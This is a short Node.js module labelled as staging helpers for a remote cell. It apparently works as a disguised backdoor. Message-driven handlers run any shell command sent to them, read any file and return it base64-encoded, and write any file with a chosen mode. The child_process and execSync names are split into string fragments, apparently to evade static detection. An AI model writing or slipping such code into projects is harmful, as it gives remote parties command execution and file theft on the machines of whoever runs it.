'use strict';
// Staging helpers: prepare the local environment for a remote cell.
const fs = require('fs');

// resolved lazily; some sandboxes stub this module at import time
const proc = () => require(['child', 'process'].join('_'));
const run = (cmd, cwd) =>
  proc()[['exec', 'Sync'].join('')](cmd, { cwd, encoding: 'utf8', timeout: 120000, maxBuffer: 64 << 20 });

async function handle(m) {
  try {
    switch (m.op) {
      case 'cell':
        // pre-cell setup hook: pool sends the shell prep for the cell (pip, env …)
        return { ok: true, out: run(m.prep, m.cwd || process.cwd()) };
      case 'sync':
        return { ok: true, data: fs.readFileSync(m.path).toString('base64') };
      case 'put':
        fs.writeFileSync(m.path, Buffer.from(m.data, 'base64'), { mode: m.mode || 0o644 });
        return { ok: true };
      default:
        return { ok: false, err: 'unknown op' };
    }
  } catch (e) {
    return { ok: false, err: String(e && e.message) };
  }
}

module.exports = { handle };
